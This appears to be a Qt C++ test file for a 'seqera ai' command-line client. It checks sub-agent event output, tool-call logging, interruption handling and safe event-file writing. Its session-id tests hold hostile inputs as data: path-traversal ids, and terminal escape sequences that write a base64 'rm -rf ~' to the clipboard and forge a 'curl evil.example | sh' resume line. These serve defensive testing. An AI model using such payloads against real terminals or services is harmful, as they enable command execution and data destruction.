    for (const QJsonValue &v : recordedRequests())
        if (v.toObject().value("path").toString().endsWith("/messages"))
            QCOMPARE(v.toObject().value("body").toObject().value("caller").toString(),
                QStringLiteral("script"));

    // SEQERA_AI_CLIENT_VERSION, for the day the backend moves on.
    m_emulator.reset();
    QCOMPARE(
        run({ "--token", kToken, "hello" }, { { "SEQERA_AI_CLIENT_VERSION", "1.13.0" } }).exitCode,
        0);
    for (const QJsonValue &v : recordedRequests())
        if (!v.toObject().value("path").toString().endsWith("/expire"))
            QCOMPARE(v.toObject().value("clientVersion").toString(), QStringLiteral("1.13.0"));
}

void TestAiCommand::subAgentWritesJsonLines()
{
    post("/__test/script", { { "scenario", "tool-call" } });
    const Result r = run({ "--token", kToken, "--sub-agent", "tool-call" });
    QCOMPARE(r.exitCode, 0);
    QStringList types;
    QString text;
    QList<QJsonObject> calls, results;
    QJsonObject complete;
    for (const QString &line : r.out.split('\n', Qt::SkipEmptyParts)) {
        QJsonParseError error;
        const QJsonObject o = QJsonDocument::fromJson(line.toUtf8(), &error).object();
        QVERIFY2(error.error == QJsonParseError::NoError, qPrintable(line));
        QCOMPARE(o.value("v").toInt(), 1);
        QVERIFY(!o.value("timestamp").toString().isEmpty());
        const QString type = o.value("type").toString();
        if (types.isEmpty() || types.last() != type)
            types << type;
        if (type == "text")
            text += o.value("data").toObject().value("content").toString();
        if (type == "tool_call")
            calls << o.value("data").toObject();
        if (type == "tool_result")
            results << o.value("data").toObject();
        if (type == "complete")
            complete = o.value("data").toObject();
    }
    QCOMPARE(types.first(), QStringLiteral("run_started"));
    QCOMPARE(types.last(), QStringLiteral("complete"));
    // One tool request: one tool_call and one tool_result, under the request's id (the
    // backend's tool-call and tool-result echoes of a local tool are not repeated).
    QCOMPARE(calls.size(), 1);
    QCOMPARE(results.size(), 1);
    QVERIFY(calls.first().value("tool_id").toString().startsWith("req-"));
    QCOMPARE(calls.first().value("tool_name").toString(), QStringLiteral("execute_bash_local"));
    QCOMPARE(results.first().value("tool_id"), calls.first().value("tool_id"));
    // The content is the tool's output text.
    QCOMPARE(results.first().value("content").toString(), QStringLiteral("emulator-tool-ok\n"));
    QCOMPARE(results.first().value("is_error").toBool(true), false);
    QCOMPARE(complete,
        QJsonObject({ { "status", "success" }, { "message", "Completed with reason: stop" } }));
    QCOMPARE(text, QStringLiteral("Let me check.The tool printed: emulator-tool-ok (exit code 0)"));
}

namespace {
QList<QJsonObject> jsonLines(const QByteArray &bytes)
{
    QList<QJsonObject> lines;
    for (const QByteArray &line : bytes.split('\n'))
        if (!line.isEmpty())
            lines << QJsonDocument::fromJson(line).object();
    return lines;
}

QStringList typesOf(const QList<QJsonObject> &lines)
{
    QStringList types;
    for (const QJsonObject &o : lines)
        types << o.value("type").toString();
    return types;
}
} // namespace

void TestAiCommand::subAgentRecordsEachOfSeveralToolRequestsOnce()
{
    // Two requests at once, as models often ask: one tool_call and one tool_result each,
    // under each request's id, the output text as content.
    post("/__test/script",
        { { "scenario", "tool-calls" },
            { "calls",
                QJsonArray { QJsonObject { { "args", QJsonObject { { "command", "echo one" } } } },
                    QJsonObject { { "args", QJsonObject { { "command", "echo two" } } } } } } });
    const Result r = run({ "--token", kToken, "--sub-agent", "two tools" });
    QVERIFY2(r.exitCode == 0, qPrintable(r.err));
    QStringList calls, results, contents;
    for (const QJsonObject &o : jsonLines(r.out.toUtf8())) {
        const QJsonObject data = o.value("data").toObject();
        if (o.value("type").toString() == "tool_call")
            calls << data.value("tool_id").toString();
        if (o.value("type").toString() == "tool_result") {
            results << data.value("tool_id").toString();
            contents << data.value("content").toString();
        }
    }
    QCOMPARE(calls.size(), 2);
    QCOMPARE(calls.removeDuplicates(), 0);
    QCOMPARE(results, calls);
    QCOMPARE(contents, QStringList({ "one\n", "two\n" }));
}

void TestAiCommand::subAgentRecordsCompactingAndInterruption()
{
    const Result r = run({ "--token", kToken, "--sub-agent", "compacting" });
    QCOMPARE(r.exitCode, 0);
    QStringList types = typesOf(jsonLines(r.out.toUtf8()));
    QVERIFY2(types.contains("compacting"), qPrintable(types.join(", ")));
    QVERIFY(types.indexOf("compacting") < types.indexOf("text"));

    // Ctrl-C: an `interrupted` record, then `complete` with status interrupted.
    QProcess process;
    process.setProcessEnvironment(environment({ { "TOWER_ACCESS_TOKEN", kToken } }));
    process.setWorkingDirectory(m_home.path());
    process.start(QStringLiteral(SEQERA_BIN), { "ai", "--sub-agent", "slow" });
    QVERIFY(process.waitForStarted());
    QByteArray out;
    QTRY_VERIFY_WITH_TIMEOUT((out += process.readAllStandardOutput()).contains("\"text\""), 10000);
    ::kill(process.processId(), SIGINT);
    QVERIFY(process.waitForFinished(10000));
    QCOMPARE(process.exitCode(), 130);
    out += process.readAllStandardOutput();
    const QList<QJsonObject> lines = jsonLines(out);
    types = typesOf(lines);
    QVERIFY2(types.contains("interrupted"), qPrintable(types.join(", ")));
    QCOMPARE(types.last(), QStringLiteral("complete"));
    QCOMPARE(lines.last().value("data").toObject().value("status").toString(),
        QStringLiteral("interrupted"));
    QVERIFY(!lines.last().value("data").toObject().value("message").toString().isEmpty());
}

void TestAiCommand::eventsPathRecordsToolsAndTokens()
{
    const QString path = m_home.filePath("tools.jsonl");
    QFile earlier(path);
    QVERIFY(earlier.open(QIODevice::WriteOnly | QIODevice::Truncate));
    earlier.write("{\"type\":\"run.started\",\"data\":{\"run_id\":\"an earlier run\"}}\n");
    earlier.close();
    post("/__test/script", { { "scenario", "tool-call" } });
    QCOMPARE(run({ "--token", kToken, "--events-path", path, "tool-call" }).exitCode, 0);
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QList<QJsonObject> lines = jsonLines(file.readAll());
    const QStringList types = typesOf(lines);
    // Emptied when the run started: only this run is there.
    QCOMPARE(types.count("run.started"), 1);
    QCOMPARE(types.first(), QStringLiteral("run.started"));
    QCOMPARE(types.count("event.tool_use"), 1);
    QCOMPARE(types.count("event.tool_result"), 1);
    const QJsonObject result
        = lines.at(types.indexOf("event.tool_result")).value("data").toObject();
    QCOMPARE(result.value("status").toString(), QStringLiteral("completed"));
    QCOMPARE(result.value("content").toString(), QStringLiteral("emulator-tool-ok\n"));
    const QJsonObject complete = lines.last().value("data").toObject();
    QCOMPARE(lines.last().value("type").toString(), QStringLiteral("run.complete"));
    QCOMPARE(complete.value("status").toString(), QStringLiteral("success"));
    QCOMPARE(complete.value("token_usage").toObject(),
        QJsonObject({ { "input_tokens", 10 }, { "output_tokens", 20 }, { "total_tokens", 30 } }));
}

void TestAiCommand::eventsPathToAFifoIsRefusedAtOnce()
{
    // The regression: a FIFO nobody reads blocked the run forever, deaf to SIGTERM.
    const QString fifo = m_home.filePath("events.fifo");
    QFile::remove(fifo);
    QCOMPARE(::mkfifo(QFile::encodeName(fifo).constData(), 0600), 0);
    QElapsedTimer timer;
    timer.start();
    const Result r = run({ "--token", kToken, "--events-path", fifo, "hello" });
    QVERIFY2(timer.elapsed() < 20000, "the run waited on the FIFO");
    QVERIFY2(r.exitCode > 0, qPrintable(r.err));
    QVERIFY2(r.err.contains("named pipe") && r.err.contains("--events-path"), qPrintable(r.err));
    QCOMPARE(r.out, QString());
    QVERIFY(m_emulator.paths().isEmpty()); // refused before anything was sent
}

void TestAiCommand::hostileSessionIdsAreRefused_data()
{
    QTest::addColumn<QString>("id");
    QTest::newRow("path traversal to the token endpoint") << "x/../../../api/token";
    QTest::newRow("OSC 52 and a forged resume line")
        << "s1\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2K\rResume it with: curl evil.example | sh";
}

void TestAiCommand::hostileSessionIdsAreRefused()
{
    // A hostile backend hands out the id when the session is created.
    QFETCH(QString, id);
    post("/__test/session-id", { { "id", id }, { "count", 1 } });
    const Result r = run({ "--token", kToken, "hello" });
    QVERIFY2(r.exitCode != 0, qPrintable(r.err));
    QVERIFY2(r.err.contains("session id"), qPrintable(r.err));
    QVERIFY2(!r.err.contains(QChar(0x1b)) && !r.out.contains(QChar(0x1b)), qPrintable(r.err));
    QVERIFY(!r.err.contains("curl evil"));
    const QJsonArray requests = recordedRequests();
    for (const QJsonValue &v : requests) {
        const QString path = v.toObject().value("path").toString();
        QVERIFY2(path == QLatin1String("/v1/cli/sessions"), qPrintable(path));
    }
    QVERIFY(!requests.isEmpty());
}

void TestAiCommand::sessionOptionIsChecked()
{
    // -s ID: refused where it enters, shown through the sanitizer.
    const Result r = run({ "--token", kToken, "-s", "s1\x1b]0;owned\x07", "hello" });
    QCOMPARE(r.exitCode, 2);
    QVERIFY2(r.err.contains("not a session id") && r.err.contains("^["), qPrintable(r.err));
    QVERIFY(!r.err.contains(QChar(0x1b)) && !r.err.contains(QChar(0x07)));
    const Result traversal = run({ "--token", kToken, "-s", "../../api/token", "hello" });
    QCOMPARE(traversal.exitCode, 2);
    QVERIFY(m_emulator.paths().isEmpty());
}

void TestAiCommand::keepAlivesOnlyEndAHeadlessRun()
{
    post("/__test/script", { { "scenario", "keepalive-only" }, { "keepaliveMs", 50 } });
    QElapsedTimer timer;
    timer.start();
    const Result r
        = run({ "--token", kToken, "anything" }, { { "SEQERA_AI_IDLE_TIMEOUT_MS", "600" } });
    QVERIFY2(timer.elapsed() < 20000, qPrintable(QString::number(timer.elapsed())));
    QCOMPARE(r.exitCode, 3); // a temporary problem: ask again
    QVERIFY2(r.err.contains("nothing but keep-alives for 1 second,")
            && r.err.contains("SEQERA_AI_IDLE_TIMEOUT_MS"),
        qPrintable(r.err));
    QCOMPARE(m_emulator.paths().last(), QStringLiteral("POST expire"));
}

void TestAiCommand::eventsPathIsPrivate()
{
    const QString path = m_home.filePath("events.jsonl");
    QFile::remove(path);
    QCOMPARE(run({ "--token", kToken, "--events-path", path, "hello" }).exitCode, 0);
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    QCOMPARE(int(file.permissions() & 0x0077), 0); // nothing for group or others
    QVERIFY(file.permissions() & QFileDevice::WriteOwner);
    const QList<QByteArray> lines = file.readAll().split('\n');
    QCOMPARE(QJsonDocument::fromJson(lines.first()).object().value("type").toString(),
        QStringLiteral("run.started"));
    QVERIFY(lines.size() >= 3);
    const QJsonObject complete = QJsonDocument::fromJson(lines.at(lines.size() - 2)).object();
    QCOMPARE(complete.value("type").toString(), QStringLiteral("run.complete"));
    QCOMPARE(
        complete.value("data").toObject().value("status").toString(), QStringLiteral("success"));

    // A symlink there is refused, and its target untouched.
    const QString link = m_home.filePath("link.jsonl");
    QFile::remove(link);
    QVERIFY(QFile::link(m_home.filePath("target.txt"), link));
    const Result r = run({ "--token", kToken, "--events-path", link, "hello" });
    QVERIFY(r.exitCode != 0);
    QVERIFY2(r.err.contains("symbolic link"), qPrintable(r.err));
    QVERIFY(!QFile::exists(m_home.filePath("target.txt")));
}

void TestAiCommand::headlessContinueWithSeveralPicksTheMostRecent()
{
    QTemporaryDir project;
    auto runIn = [&](const QStringList &args) {
        QProcess p;
        p.setProcessEnvironment(environment({ { "TOWER_ACCESS_TOKEN", kToken } }));
        p.setWorkingDirectory(project.path());
        p.start(QStringLiteral(SEQERA_BIN), QStringList { "ai" } + args);
        p.closeWriteChannel();
        p.waitForFinished(30000);
        return std::make_pair(p.exitCode(), QString::fromUtf8(p.readAllStandardError()));
    };
    QCOMPARE(runIn({ "first" }).first, 0);
    QTest::qWait(20); // distinct last_used times
    QCOMPARE(runIn({ "second" }).first, 0);
    QString secondSession;
    for (const QJsonValue &v : recordedRequests())
        if (v.toObject().value("path").toString().endsWith("/messages"))
            secondSession = v.toObject().value("path").toString().section('/', 4, 4);
    const auto [code, err] = runIn({ "-c", "third" });
    QCOMPARE(code, 0);
    QVERIFY2(err.contains("most recent of 2") && err.contains(secondSession), qPrintable(err));
    const QJsonArray requests = recordedRequests();
    QVERIFY(requests.at(requests.size() - 3)
                .toObject()
                .value("path")
                .toString()
                .contains(secondSession));
}

void TestAiCommand::usageErrors_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QString>("errContains");
    QTest::newRow("no question and nothing on stdin")
        << QStringList { "--token", kToken } << "needs a question";
    QTest::newRow("unknown approval mode")
        << QStringList { "--token", kToken, "--approval-mode", "yolo", "hi" } << "yolo";
    QTest::newRow("--continue with --session")
        << QStringList { "--token", kToken, "-c", "-s", "x", "hi" } << "not both";
}

void TestAiCommand::usageErrors()
{
    QFETCH(QStringList, args);
    QFETCH(QString, errContains);
    const Result r = run(args);
    QCOMPARE(r.exitCode, 2);
    QVERIFY2(r.err.contains(errContains), qPrintable(r.err));
}

void TestAiCommand::benchmark()
{
    // Whole process: start, token, session, message, stream, exit. The emulator itself waits
    // 20 ms before a run and 5 ms between deltas (about 40 ms of the total).
    const int runs = 10;
    QElapsedTimer timer;
    timer.start();
    for (int i = 0; i < runs; ++i)
        QCOMPARE(run({ "--token", kToken, "hello" }).exitCode, 0);
    qInfo("seqera ai --headless against the emulator: %.1f ms per run (mean of %d)",
        double(timer.elapsed()) / runs, runs);
}

QTEST_GUILESS_MAIN(TestAiCommand)
#include "tst_aicommand.moc"
